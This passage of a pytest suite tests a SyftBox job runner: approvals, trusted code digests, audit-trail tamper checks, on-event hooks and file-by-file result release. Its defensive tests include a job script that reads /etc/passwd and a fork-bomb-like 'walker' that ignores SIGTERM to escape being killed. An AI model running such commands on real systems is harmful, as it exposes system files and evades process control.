               if lines[n].startswith("# ---") and lines[n + 1].startswith("# ") and not lines[n + 1].startswith("# -")]
    assert [name for _, name in banners] == ["Exceptions", "Console", "Files", "YAML", "Configuration", "Discovery",
                                             "Claims and approvals", "Sharing", "Isolation", "Execution", "Submission",
                                             "Runner", "Command line"]
    section, bound_twice = {}, []  # top-level name -> the index of its section
    for node in tree.body:
        targets = node.targets if isinstance(node, ast.Assign) else [getattr(node, "target", node)]
        for name in [getattr(node, "name", None)] + [getattr(t, "id", None) for t in targets]:
            if name:
                bound_twice += [f"{name} (line {node.lineno})"] if name in section else []
                section.setdefault(name, sum(start <= node.lineno for start, _ in banners) - 1)
    assert bound_twice == []  # a second definition silently replaces the first for every section

    class Uses(ast.NodeVisitor):
        def __init__(self):
            self.names = set()

        def visit_Name(self, node):
            self.names.add(node.id)

        def visit_arg(self, node):  # an annotation
            pass

        def visit_AnnAssign(self, node):
            self.visit(node.target)
            if node.value is not None:
                self.visit(node.value)

        def visit_FunctionDef(self, node):
            for part in node.decorator_list + node.args.defaults + [d for d in node.args.kw_defaults if d] + node.body:
                self.visit(part)

    wrong = []
    for node in tree.body:
        here = sum(start <= node.lineno for start, _ in banners) - 1
        uses = Uses()
        uses.visit(node)
        wrong += [f"line {node.lineno} uses {name} ({banners[section[name]][1]})" for name in sorted(uses.names)
                  if section.get(name, -1) > here]
    assert wrong == []


# ---------------------------------------------------------------------------
# The demo, the README and CI
# ---------------------------------------------------------------------------


@pytest.mark.slow
def test_demo_runs_on_its_own_and_ends_with_list_and_show(tmp_path):
    folder = tmp_path / "demo"
    result = cli("demo", "--folder", str(folder), timeout=120)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    review = folder / "do@example.com" / "app_data" / "job" / "review" / "ds@example.com"
    assert (review / "word count" / "outputs" / "word_count.txt").read_text().strip() == "9"
    assert (review / "missing file" / "returncode.txt").read_text() == "1"
    assert state_of(review / "python hello")["status"] == "pending"
    assert "[do@example.com][word count] Result written to outputs/word_count.txt" in out
    assert "syft-job list" in out and "syft-job show 'word count'" in out and "digest: " in out
    assert re.search(r"^word count\s+ds@example\.com\s+done", out, re.M)
    assert f"isolation: {'sandbox' if HAVE_BWRAP else 'none'}" in out
    assert can(folder, "ds@example.com", review / "word count" / "outputs" / "word_count.txt", "read")
    again = cli("demo", "--folder", str(folder))
    assert again.returncode == 2 and "needs an empty folder" in again.stderr
    # The README's next step, `list` with only the folder and the email, finds the demo's run records.
    listed = cli("list", "--json", env=cli_env(SYFTBOX_FOLDER=str(folder), SYFTBOX_EMAIL="do@example.com"))
    rows = {row["name"]: row for row in json.loads(listed.stdout)}
    assert rows["word count"]["duration_s"] is not None and rows["word count"]["started_at"]


@pytest.mark.slow
def test_demo_in_a_temp_folder_by_default(tmp_path):
    result = cli("demo", env=cli_env(TMPDIR=str(tmp_path)), timeout=120)
    assert result.returncode == 0, result.stderr
    assert f"Demo SyftBox folder: {tmp_path}" in result.stdout
    folder = Path(re.search(r"Demo SyftBox folder: (\S+)", result.stdout).group(1))
    counted = folder / "do@example.com/app_data/job/review/ds@example.com/word count/outputs/word_count.txt"
    assert counted.read_text().strip() == "9"  # its job read the owner's data (as root: as nobody)


README = (HERE / "README.md").read_text(encoding="utf-8")


def readme_blocks(section: str, language: str) -> list[str]:
    body = README.split(f"\n## {section}\n", 1)[1].split("\n## ", 1)[0]
    return re.findall(rf"```{language}\n(.*?)```", body, re.S)


@pytest.fixture
def fresh_clone(tmp_path) -> Path:
    clone = tmp_path / "clone"
    clone.mkdir()
    for name in ("syft_job.py", "README.md", "pyproject.toml"):
        (clone / name).write_bytes((HERE / name).read_bytes())
    return clone


@pytest.mark.slow
def test_readme_quick_start_runs(fresh_clone, tmp_path):
    blocks = readme_blocks("Quick start", "sh")
    assert len(blocks) >= 3
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sys.executable)
    (bin_dir / "uv").write_text("#!/bin/sh\necho 'uv: no network in this test' >&2\nexit 1\n")
    (bin_dir / "uv").chmod(0o755)
    env = cli_env(PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    env.pop("PYTHONPATH")
    script = "set -euo pipefail\n" + "\n".join(blocks)
    result = subprocess.run(["bash", "-c", script], cwd=fresh_clone, env=env, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "word count" in result.stdout and "Approved python hello" in result.stdout


def test_readme_test_command_is_the_ci_command():
    command = next(l for l in README.splitlines() if l.startswith("python3 -m venv .venv && "))
    ci = (HERE / ".ci" / "run").read_text()
    assert "grep -m 1 -E '^python3 -m venv \\.venv && .*pytest' README.md" in ci
    assert command.endswith("-m pytest -q")
    assert "scripts/slurm-single-node.sh" in ci and "bubblewrap" in ci


def test_readme_python_examples_run(tmp_path, monkeypatch, capsys):
    blocks = readme_blocks("Python API", "python")
    assert len(blocks) >= 4
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "SyftBox" / "do@example.com").mkdir(parents=True)
    (tmp_path / "SyftBox" / "ds@example.com").mkdir()
    for block in blocks:
        code = (block.replace("runner.run()", "pass")
                .replace("while True:", "for _ in range(1):")
                .replace("time.sleep(5)", "time.sleep(0)"))
        exec(compile(code, "README.md", "exec"), {})
    review = tmp_path / "SyftBox" / "do@example.com" / "app_data" / "job" / "review" / "ds@example.com" / "hi"
    assert (review / "outputs" / "hi.txt").read_text() == "hi\n"
    out = capsys.readouterr().out
    assert "Shared outputs and logs of ds@example.com/hi (v0) with ds@example.com" in out
    assert re.search(r"^done \[.*hi\.txt'\)\]$", out, re.M), out


def test_a_submitter_folder_not_named_like_an_email_does_not_break_the_poll(runner, capsys):
    folder = runner.job_dir / "not-an-email"
    folder.mkdir(parents=True)
    (folder / "syft.pub.yaml").write_text("rules:\n- pattern: '**'\n  access: {}\n")
    make_job(runner, "odd", "echo odd-ran", submitter="not-an-email")
    runner.check_for_new_jobs()
    runner.process_approved_jobs()
    assert "[do@test.org][odd] odd-ran" in capsys.readouterr().out


# ---------------------------------------------------------------------------
# A runner that reacts at once (inotify), tells the owner (on_event), and approves
# the code the owner trusts
# ---------------------------------------------------------------------------

needs_inotify = pytest.mark.skipif(syft_job._Watcher().fd is None, reason="no inotify here: run polls instead")


def start_run(syftbox: Path, *flags: str) -> tuple[subprocess.Popen, LineReader]:
    """``syft-job run`` (polling every 60 s unless the flags say otherwise), once it waits."""
    proc = subprocess.Popen([sys.executable, "-u", "-m", "syft_job", "run", "--poll-interval", "60", "--isolation",
                             "none", *flags, *site_args(syftbox)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            env=cli_env())
    reader = LineReader(proc)
    reader.wait_for("Press Ctrl+C")
    return proc, reader


def stop_run(proc: subprocess.Popen) -> None:
    proc.send_signal(signal.SIGTERM)
    try:
        assert proc.wait(timeout=30) == 0
    finally:
        proc.kill()


@needs_inotify
@pytest.mark.slow
def test_run_hears_of_a_submission_and_an_approval_at_once_whatever_its_poll_interval(syftbox):
    # poll_interval 60 s (and a safety scan every 60 s): anything seen within 20 s was heard, not polled for
    proc, reader = start_run(syftbox)
    try:
        (syftbox / DS).mkdir()
        client_for(syftbox).submit_bash_job(OWNER, "echo hello from the job\n", job_name="prompt")
        reader.wait_for("NEW JOB DETECTED: ds@test.org/prompt", timeout=20)
        assert cli("approve", "prompt", *site_args(syftbox)).returncode == 0
        reader.wait_for("hello from the job", timeout=20)
        legacy = legacy_job(syftbox, "old style", "echo legacy ran\n", approved=False)
        reader.wait_for("NEW JOB DETECTED: ds@test.org/old style", timeout=20)
        (legacy / "approved").touch()  # the owner's other client approves it
        reader.wait_for("legacy ran", timeout=20)
    finally:
        stop_run(proc)


@needs_inotify
@pytest.mark.slow
def test_a_thousand_submissions_synced_at_once_are_all_seen(syftbox):
    proc, reader = start_run(syftbox, "--no-stream")
    try:
        for i in range(1000):
            legacy_job(syftbox, f"bulk {i:04d}", "true\n", approved=False)
        wait_for(lambda: reader.text.count("NEW JOB DETECTED") == 1000, 60, "1000 announcements")
    finally:
        stop_run(proc)


def test_a_submitter_with_thousands_of_pending_jobs_cannot_crowd_out_anothers_watch(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none")
    for n in range(600):
        legacy_job(syftbox, f"pending {n:03d}", "true\n", submitter="aaa@test.org", approved=False)
    mine = legacy_job(syftbox, "mine", "true\n", submitter="zzz@test.org", approved=False)
    runner._jobs()
    watched = syft_job._watched_folders(runner.config, runner._site, runner._scanner)
    assert str(mine) in watched
    assert len([f for f in watched if "aaa@test.org/pending" in f]) == syft_job._MAX_WATCHED_PER_SUBMITTER


def events_of(path: Path) -> list[tuple[str, str, str]]:
    """The events noted, in the order they happened (the commands run at once, so they
    may append in another)."""
    events = sorted(map(json.loads, path.read_text().splitlines()), key=lambda e: e["at"])
    return [(e["event"], e["job"], e["status"]) for e in events]


@pytest.mark.slow
def test_on_event_commands_tell_each_event_whoever_made_it(syftbox, tmp_path):
    log = tmp_path / "events.jsonl"
    hook, site = f"cat >> {log}", site_args(syftbox)
    client = client_for(syftbox)
    for name, script in (("good", "echo fine\n"), ("bad", "exit 3\n"), ("unwanted", "echo no\n")):
        client.submit_bash_job(OWNER, script, job_name=name)
    assert cli("once", "--on-event", hook, *site).returncode == 0
    assert sorted(events_of(log)) == [("submitted", n, "inbox") for n in ("bad", "good", "unwanted")]
    proc, reader = start_run(syftbox, "--on-event", hook, "--no-stream", "--poll-interval", "0.2")
    try:
        for name in ("good", "bad"):  # approved and rejected by another process: the running runner tells
            assert cli("approve", name, *site).returncode == 0
        assert cli("reject", "unwanted", "--reason", "not this", *site).returncode == 0
        wait_for(lambda: len(events_of(log)) >= 10, 30, "the events of the run")
    finally:
        stop_run(proc)
    events = events_of(log)[3:]
    assert sorted(events) == sorted([("approved", "good", "approved"), ("started", "good", "running"),
                                     ("finished", "good", "done"), ("approved", "bad", "approved"),
                                     ("started", "bad", "running"), ("failed", "bad", "failed"),
                                     ("rejected", "unwanted", "rejected")]), events
    for name, last in (("good", "finished"), ("bad", "failed")):
        assert [e for e, n, _ in events if n == name] == ["approved", "started", last]
    records = [json.loads(line) for line in log.read_text().splitlines()]
    assert all(set(r) == {"event", "job", "submitter", "status", "return_code", "reason", "at"} for r in records)
    assert [r["reason"] for r in records if r["event"] == "rejected"] == ["not this"]
    assert [r["return_code"] for r in records if r["event"] == "failed"] == [3]
    assert cli("release", "good", "--all", "--on-event", hook, *site).returncode == 0
    assert events_of(log)[-1] == ("released", "good", "done")
    failing = cli("release", "good", "--all", "--on-event", "echo no mail server >&2; exit 3", *site)
    assert "⚠️ The on-event command failed with exit status 3 (released: ds@test.org/good): no mail server" \
        in failing.stdout, failing.stdout + failing.stderr
    twice = cli("once", "--on-event", hook, "--on-event", hook, *site)
    assert twice.returncode == 2 and "give --on-event once" in twice.stderr


@pytest.mark.slow
def test_a_failing_or_hanging_on_event_command_is_said_in_one_line_and_stopped(syftbox, monkeypatch):
    monkeypatch.setattr(syft_job, "_HOOK_SECONDS", 0.5)
    for command, said in (("exit 7", "failed with exit status 7"), ("sleep 60", "stopped after 0.5 s")):
        sink = Sink()
        runner = syft_job.create_runner(syftbox, OWNER, console=sink, isolation="none", on_event=command)
        make_job(runner, f"job {said[:6]}", "echo ran\n")
        started = time.monotonic()
        [result] = runner.process_approved_jobs(stream_output=False)
        assert result.status == "done" and time.monotonic() - started < 0.5 + 20  # the job never waited
        runner._hooks.close()
        assert said in sink.text and sink.text.count("on-event command") == 2  # started and finished/done: each said
    with pytest.raises(ConfigError, match="on_event"):
        syft_job.create_runner(syftbox, OWNER, on_event=42)
    hooks = syft_job._Hooks("sleep 30", syft_job._Console(False))
    started = time.monotonic()
    for n in range(6):  # a command that never reads a big event (200 kB) holds nothing up: it gets a file
        hooks.add({"event": "started", "job": f"j{n}", "submitter": DS, "reason": "x" * 200_000})
    assert time.monotonic() - started < 20  # a hang bound: a pipe would have blocked the runner for good
    assert (len(hooks.running), len(hooks.waiting)) == (4, 2)  # at most 4 at once; the others wait their turn
    hooks.close()  # each stopped after its 0.5 s
    assert not hooks.running and not hooks.waiting


def test_an_on_event_callable_gets_each_event_and_its_failure_is_one_line(syftbox):
    seen = []
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none", on_event=seen.append)
    make_job(runner, "called", "echo hi\n")
    runner.process_approved_jobs(stream_output=False)
    assert [(e["event"], e["status"], e["return_code"]) for e in seen] == [("started", "running", None),
                                                                            ("finished", "done", 0)]
    sink = Sink()
    broken = syft_job.create_runner(syftbox, OWNER, console=sink, isolation="none", on_event=lambda e: 1 / 0)
    make_job(broken, "still runs", "echo hi\n")
    [result] = broken.process_approved_jobs(stream_output=False)
    assert result.status == "done" and "on_event failed for started of ds@test.org/still runs: ZeroDivisionError" \
        in sink.text


def resubmit(syftbox: Path, name: str, script: str, submitter: str = DS, layout: str = "v0") -> Path:
    return client_for(syftbox, layout, email=submitter).submit_bash_job(OWNER, script, job_name=name)


@pytest.mark.slow
def test_trust_through_the_api(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none")
    resubmit(syftbox, "nightly 1", "echo model\n")
    runner.check_for_new_jobs()
    digest = runner.describe_job("nightly 1")["code_digest"]
    runner.trust(DS, digest)
    runner.trust(DS, "0" * 64)
    runner.trust(DS, digest)  # again: nothing changes
    assert runner.trusted() == {DS: [digest, "0" * 64]}
    runner.untrust(DS, "0" * 64)
    resubmit(syftbox, "nightly 2", "echo model\n")
    assert runner.check_for_new_jobs() == [f"{DS}/nightly 2"]
    view = runner.describe_job("nightly 2")
    assert view["approval_method"] == "auto" and view["changes"] is None and "submitted" not in view
    [result] = runner.process_approved_jobs(stream_output=False)
    assert (result.name, result.status) == ("nightly 2", "done")
    runner.untrust(DS, digest)
    assert runner.trusted() == {}
    runner.trust(DS.upper(), digest)  # another folder, maybe another person: exactly the submitter, or nothing
    resubmit(syftbox, "nightly 3", "echo model\n")
    runner.check_for_new_jobs()
    assert runner.describe_job("nightly 3")["status"] == "inbox"
    with pytest.raises(JobError, match="whole code digest"):
        runner.trust(DS, digest[:40])


@pytest.mark.parametrize("owner, layout", [("root", "v0"), ("user", "legacy")], indirect=["owner"])
@pytest.mark.slow
def test_trusted_code_from_its_submitter_is_approved_by_itself_and_nothing_else_is(owner, syftbox, layout):
    resubmit(syftbox, "weekly 1", "echo weekly report\n", layout=layout)
    assert "NEW JOB DETECTED: ds@test.org/weekly 1" in owner.cli(syftbox, "once").stdout  # reviewed before the trust
    shown = owner.cli(syftbox, "show", "weekly 1").stdout
    digest = re.search(r"^code digest: ([0-9a-f]{64})", shown, re.M).group(1)
    assert f"syft-job trust {DS} --digest {digest}" in shown
    assert owner.cli(syftbox, "trust", DS, "--digest", digest[:20]).returncode == 2  # the whole digest, or nothing
    assert owner.cli(syftbox, "trust", DS, "--digest", digest).returncode == 0
    assert f"{DS}  {digest}" in owner.cli(syftbox, "trust", "--list").stdout
    resubmit(syftbox, "weekly 2", "echo weekly report\n", layout=layout)  # the same code, a new submission
    resubmit(syftbox, "weekly 2", "echo weekly report\n", submitter=OTHER, layout=layout)  # another submitter
    resubmit(syftbox, "weekly 3", "echo weekly report; cat /etc/passwd\n", layout=layout)  # other code
    result = owner.cli(syftbox, "once", "--isolation", "none")
    assert re.search(r"Job ds@test.org/weekly 2( \(v0\))? approved by itself: you trust its code", result.stdout)
    rows = {(r["submitter"], r["name"]): r["status"] for r in json.loads(owner.cli(syftbox, "list", "--json").stdout)}
    assert rows == {(DS, "weekly 1"): "inbox", (DS, "weekly 2"): "done", (OTHER, "weekly 2"): "inbox",
                    (DS, "weekly 3"): "inbox"}
    job = syft_job.create_runner(syftbox, OWNER)._find_job("weekly 2", DS)
    if layout == "v0":
        assert syft_job._read_state(job.results)["approval_method"] == "auto"
    else:
        assert json.loads((Path(job.folder) / "approved").read_text())["approval_method"] == "auto"
    audit = json.loads(owner.cli(syftbox, "audit", "--json").stdout)
    assert [(e["event"], e.get("method")) for e in audit if e["job"] == f"{DS}/weekly 2"][0] == ("approve", "auto")
    assert "(by itself: trusted code)" in owner.cli(syftbox, "show", "weekly 2", "--user", DS).stdout
    assert owner.cli(syftbox, "untrust", DS, "--digest", digest).returncode == 0
    resubmit(syftbox, "weekly 4", "echo weekly report\n", layout=layout)
    owner.cli(syftbox, "once", "--isolation", "none")
    assert owner.cli(syftbox, "show", "weekly 4").stdout.count("Status:     inbox") == 1
    assert owner.cli(syftbox, "untrust", DS, "--digest", digest).returncode == 2  # not trusted any more: said, exit 2


# ---------------------------------------------------------------------------
# An owner's day: one line per event
# ---------------------------------------------------------------------------


@pytest.mark.slow
def test_one_line_per_event_held_back_rejected_on_receipt_and_logs_of_a_job_never_run(syftbox):
    sink = Sink()
    runner = syft_job.create_runner(syftbox, OWNER, console=sink)
    job = make_job(runner, "held", "echo hi\n", approved=False)
    runner.approve_job("held")
    (job / "run.sh").write_text("echo changed\n")
    for _ in range(3):
        assert runner.process_approved_jobs() == []
    assert sink.text.count("⏸️ Job ds@test.org/held is not run: its files changed") == 1, sink.text
    assert "Executing" not in sink.text and "Found" not in sink.text
    folder, _ = new_job(runner, "malformed", "echo x", approve=False)
    (folder / "extra.txt").write_text("not allowed here")
    runner.check_for_new_jobs()
    runner.check_for_new_jobs()
    assert sink.text.count("🚫 Job ds@test.org/malformed (v0) was rejected on receipt: the submission must hold") == 1
    never = cli("logs", "held", *site_args(syftbox))
    assert never.returncode == 1 and "ds@test.org/held has not run (it is changed): no log yet" in never.stderr


@pytest.mark.slow
def test_show_prints_the_code_of_a_python_job(syftbox, tmp_path):
    runner = syft_job.create_runner(syftbox, OWNER, console=False)
    (syftbox / DS).mkdir()
    project = tmp_path / "analysis"
    project.mkdir()
    (project / "main.py").write_text("".join(f"print({i})  # \x1b[31m\n" for i in range(1, 251)))
    (project / "model.bin").write_bytes(b"\x00\x01binary" * 10)
    client = syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, DS))
    client.submit_python_job(OWNER, project, job_name="py", dependencies=["numpy"])
    shown = cli("show", "py", *site_args(syftbox)).stdout
    assert "--- code/main.py ---" in shown and "1: print(1)  # \\x1b[31m" in shown and "200: print(200)" in shown
    assert "201: print(201)" not in shown and "... (50 more lines: --all-lines)" in shown
    assert "--- code/model.bin ---" not in shown and re.search(r"^  code/model\.bin  80 bytes  [0-9a-f]{64}$", shown, re.M)
    everything = cli("show", "py", "--all-lines", *site_args(syftbox)).stdout
    assert "250: print(250)" in everything and "more lines" not in everything


@pytest.mark.slow
def test_a_job_is_found_as_the_runner_prints_it_with_did_you_mean_and_a_rejection_can_be_undone(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False)
    folder, results = new_job(runner, "count", "echo 3", approve=False)
    odd = make_job(runner, "a\nb", "echo odd\n", approved=False, submitter=OTHER)
    for typed in ("ds@test.org/count", "ds@test.org/count (v0)", "count"):  # as list and the console print it
        assert cli("reject", typed, "--reason", "too wide", *site_args(syftbox)).returncode == 0, typed
    assert state_of(results)["status"] == "rejected"
    again = cli("approve", "ds@test.org/count", *site_args(syftbox))
    assert again.returncode == 2 and "to review it again: syft-job reopen count" in again.stderr
    reopened = cli("reopen", "ds@test.org/count", *site_args(syftbox))
    assert reopened.returncode == 0 and "back in the inbox" in reopened.stdout
    state = state_of(results)
    assert state["status"] == "pending" and state["review_reason"] is None and state["rejected_by"] is None
    audit = [json.loads(line) for line in (runner._site.root / "audit.jsonl").read_text().splitlines()]
    assert [a["event"] for a in audit] == ["reject"] * 3 + ["reopen"] and audit[3]["prev"] is not None
    assert cli("approve", "count", *site_args(syftbox)).returncode == 0
    assert cli("show", "other@test.org/a\\nb", *site_args(syftbox)).returncode == 0  # the escaped name, typed back
    assert cli("reject", "a\\nb", "--reason", "odd", *site_args(syftbox)).returncode == 0
    assert (odd / "rejected").exists()
    missed = cli("show", "cuont", *site_args(syftbox))
    assert missed.returncode == 2 and "did you mean 'count'?" in missed.stderr


@pytest.mark.slow
def test_list_shows_when_a_running_job_started_and_how_long_it_has_run(syftbox):
    go = go_file(syftbox)
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    make_job(runner, "slow", f"echo started\n{WAIT_FOR_GO}")
    make_job(runner, "quick", "true\n")
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()", settings="isolation='none'")
    try:
        wait_for(lambda: any(r["status"] == "running" for r in runner.list_jobs()), what="a running job")
        table = cli("list", *site_args(syftbox)).stdout.splitlines()
        header = table[0].split()
        assert header == ["JOB", "SUBMITTER", "STATUS", "SUBMITTED", "STARTED", "ELAPSED", "DURATION", "RC", "SHARED"]
        running = next(r for r in runner.list_jobs() if r["status"] == "running")
        assert running["started_at"].endswith("Z") and running["elapsed_s"] >= 0 and running["duration_s"] is None
        assert running["slurm_job_id"] is None
        go.touch()
        proc.wait(timeout=60)
    finally:
        go.touch()
        proc.kill()
    done = {r["name"]: r for r in runner.list_jobs()}
    assert all(r["duration_s"] is not None and r["elapsed_s"] is None for r in done.values())
    assert " s " in cli("list", *site_args(syftbox)).stdout.splitlines()[1] + " "


@pytest.mark.slow
def test_the_data_scientists_view_from_only_what_their_syftbox_holds(syftbox, tmp_path):
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none")
    runner.add_submitter(DS)
    new_job(runner, "shared", "echo hi; echo 1 > code/outputs/r.txt")
    new_job(runner, "private", "echo secret; exit 3")
    new_job(runner, "refused", "echo never", approve=False)
    runner.reject_job("refused", "asks for raw rows")
    new_job(runner, "stopped", f"{WAIT_FOR_GO}", layout="v1")
    go_file(syftbox)
    legacy = runner.job_dir / DS / "old"
    legacy.parent.mkdir(exist_ok=True)
    (legacy.parent / "syft.pub.yaml").write_text(syft_job.dump_yaml({"rules": [
        {"pattern": "**", "access": {"admin": [], "read": [], "write": [DS]}}]}))
    make_job(runner, "old", "echo legacy\n", approved=False)
    runner.check_for_new_jobs()  # protects the legacy folder before the owner approves
    runner.approve_job("old")
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()", settings="isolation='none'")
    try:
        wait_for(lambda: any(r["status"] == "running" and r["name"] == "stopped" for r in runner.list_jobs()),
                 what="the job to wait")
        runner.cancel_job("stopped")
        proc.wait(timeout=60)
    finally:
        proc.kill()
    runner.share_job_results("shared")
    runner.share_job_results("old", share_outputs=False)
    # The data scientist's SyftBox: only what SyftBox's rules let it read, and no permission file of the owner's.
    copy = tmp_path / "ds-syftbox"
    for path in (syftbox / OWNER).rglob("*"):
        if path.is_file() and path.name != "syft.pub.yaml" and can(syftbox, DS, path, "read"):
            target = copy / path.relative_to(syftbox)
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, target)
    assert not list(copy.rglob("syft.pub.yaml")) and not list(copy.rglob("approved"))[1:]
    (copy / DS).mkdir(exist_ok=True)
    jobs = {j.name: j for j in syft_job.JobClient(SyftJobConfig.from_syftbox_folder(copy, DS)).jobs}
    assert (jobs["shared"].status, jobs["shared"].return_code, jobs["shared"].stdout) == ("done", 0, "hi\n")
    assert [p.name for p in jobs["shared"].outputs] == ["r.txt"]
    assert (jobs["private"].status, jobs["private"].return_code, jobs["private"].stdout) == ("failed", 3, None)
    assert jobs["private"].outputs is None
    assert (jobs["refused"].status, jobs["refused"].reason) == ("rejected", "asks for raw rows")
    assert (jobs["stopped"].status, jobs["stopped"].reason) == ("failed", "cancelled by the data owner")
    assert (jobs["old"].status, jobs["old"].return_code, jobs["old"].stdout) == ("done", 0, "legacy\n")


def audit_of(syftbox: Path, *args: str) -> subprocess.CompletedProcess:
    return cli("audit", *args, *site_args(syftbox))


@pytest.mark.slow
def test_every_decision_and_run_is_in_an_audit_trail_that_shows_any_edit(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none")
    new_job(runner, "one", "echo 1 > code/outputs/r.txt")
    new_job(runner, "two", "echo 2", approve=False)
    runner.reject_job("two", "no")
    runner.process_approved_jobs()
    runner.share_job_results("one")
    runner.unshare_job_results("one")
    listed = json.loads(audit_of(syftbox, "--json").stdout)
    assert [e["event"] for e in listed] == ["approve", "reject", "start", "finish", "share", "unshare"]
    assert listed[0]["digest"] and listed[1]["reason"] == "no" and listed[3]["return_code"] == 0
    assert listed[4]["files"]["outputs/r.txt"] == hashlib.sha256(b"1\n").hexdigest()
    assert [e["event"] for e in json.loads(audit_of(syftbox, "--json", "--job", "two").stdout)] == ["reject"]
    assert "approve  ds@test.org/one  by do@test.org" in audit_of(syftbox).stdout
    assert audit_of(syftbox, "--verify").returncode == 0
    trail = runner._site.root / "audit.jsonl"
    lines = trail.read_bytes().splitlines(keepends=True)
    for changed, line in ((lines[:1] + [lines[1].replace(b'"no"', b'"yes"')] + lines[2:], 2),  # an edit
                          (lines[:2] + lines[3:], 2),                                               # a removal
                          (lines[:2] + [lines[3], lines[2]] + lines[4:], 2),                        # a move
                          (lines[:-1] + [lines[-1].replace(b"unshare", b"share")], 6)):            # the last line
        trail.write_bytes(b"".join(changed))
        verified = audit_of(syftbox, "--verify")
        assert verified.returncode == 1 and f"line {line}" in verified.stdout, verified.stdout
    trail.unlink()
    gone = audit_of(syftbox, "--verify")
    assert gone.returncode == 1 and "audit.jsonl was removed" in gone.stdout
    trail.write_bytes(b"".join(lines))
    writers = [subprocess.Popen([sys.executable, "-c", "import sys, syft_job\n"
                                 "r = syft_job.create_runner(sys.argv[1], sys.argv[2], console=False)\n"
                                 "job = r._find_job('one')\n"
                                 "for i in range(200): r._site.audit('note', job, 'test', n=i)\n",
                                 str(syftbox), OWNER], env=cli_env()) for _ in range(4)]
    assert [w.wait(timeout=60) for w in writers] == [0] * 4
    assert audit_of(syftbox, "--verify").returncode == 0  # four writers at once: no half line, no broken link


RESULTS_JOB = """
printf 'region,count\\nnorth,3\\nsouth,25\\n' > code/outputs/counts.csv
printf 'email,score\\na@x.org,1.5\\n' > code/outputs/people.csv
printf '\\000\\001binary' > code/outputs/model.bin
mkdir -p code/outputs/deep && echo 'mean 4.2' > code/outputs/deep/summary.txt
echo done
"""


@pytest.mark.slow
def test_results_are_checked_shown_and_released_file_by_file(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER, console=False, isolation="none")
    _, results = new_job(runner, "study", RESULTS_JOB)
    runner.process_approved_jobs()
    shown = json.loads(cli("show", "study", "--json", *site_args(syftbox)).stdout)
    reports = {r["path"]: r for r in shown["results"]}
    assert sorted(reports) == ["outputs/counts.csv", "outputs/deep/summary.txt", "outputs/model.bin",
                               "outputs/people.csv", "stderr.txt", "stdout.txt"]
    assert reports["outputs/counts.csv"]["flags"] == ["small-count"]
    assert reports["outputs/counts.csv"]["csv"] == {"rows": 2, "columns": 2, "header": ["region", "count"]}
    assert reports["outputs/people.csv"]["flags"] == ["identifier-column"]
    assert reports["outputs/model.bin"]["flags"] == ["file-type", "not-utf8"] and not reports["outputs/model.bin"]["text"]
    assert reports["outputs/deep/summary.txt"]["flags"] == [] and reports["outputs/deep/summary.txt"]["lines"] == 1
    summary = reports["outputs/deep/summary.txt"]
    assert summary["sha256"] == hashlib.sha256(b"mean 4.2\n").hexdigest() and summary["size"] == 9
    text = cli("show", "study", *site_args(syftbox)).stdout
    assert "outputs/counts.csv  30 bytes" in text and "CSV of 2 rows x 2 columns: region, count  ⚑ small-count" in text
    assert "    | north,3" in text
    relaxed = json.loads(cli("show", "study", "--json", "--min-count", "2", *site_args(syftbox)).stdout)
    assert {r["path"]: r["flags"] for r in relaxed["results"]}["outputs/counts.csv"] == []
    assert cli("release", "study", *site_args(syftbox)).returncode == 2  # name the files, or --all
    one = cli("release", "study", "outputs/deep/summary.txt", "--reason", "aggregate", *site_args(syftbox))
    assert one.returncode == 0 and "Released 1 file(s)" in one.stdout
    readable = {path: can(syftbox, DS, results / path, "read") for path in reports}
    assert readable == {path: path == "outputs/deep/summary.txt" for path in reports}
    assert runner.list_jobs()[0]["shared"] == ["1 output(s)"]
    [seen] = syft_job.JobClient(SyftJobConfig.from_syftbox_folder(syftbox, DS)).jobs
    assert [p.name for p in seen.outputs] == ["summary.txt"] and seen.stdout is None
    released = runner.release_results("study")  # everything not flagged: the logs and the summary
    assert sorted(released) == ["outputs/deep/summary.txt", "stderr.txt", "stdout.txt"]
    assert not can(syftbox, DS, results / "outputs/counts.csv", "read")
    assert runner.release_results("study", ["outputs/counts.csv"]) == ["outputs/counts.csv"]  # named: released
    (results / "outputs" / "people.csv").write_text("email\nreal@person.org\n")  # rewritten after the run
    refused = cli("release", "study", "outputs/people.csv", *site_args(syftbox))
    assert refused.returncode == 1 and "changed after the run" in refused.stdout
    assert not can(syftbox, DS, results / "outputs/people.csv", "read")
    audit = [e for e in json.loads(cli("audit", "--json", *site_args(syftbox)).stdout) if e["event"] == "release"]
    assert audit[0]["files"] == {"outputs/deep/summary.txt": summary["sha256"]} and audit[0]["reason"] == "aggregate"
    assert cli("unshare", "study", *site_args(syftbox)).returncode == 0
    assert not any(can(syftbox, DS, results / path, "read") for path in reports)
    shared = cli("share", "study", "--outputs", *site_args(syftbox))
    assert "⚑ outputs/counts.csv: small-count" in shared.stdout and can(syftbox, DS, results / "outputs/model.bin", "read")


WALKER = """
env -i {python} -c '
import os, signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.setsid()
end = time.time() + 8
while time.time() < end:  # a new pid every half millisecond: a one-pass kill misses the newest
    if os.fork():
        os._exit(0)
    time.sleep(0.0005)
time.sleep(60)' {marker} &
echo started
"""


@pytest.mark.slow
def test_a_process_that_keeps_forking_away_is_stopped_with_its_job(syftbox, owner):
    marker = f"walker-{owner.kind}-{os.getpid()}"
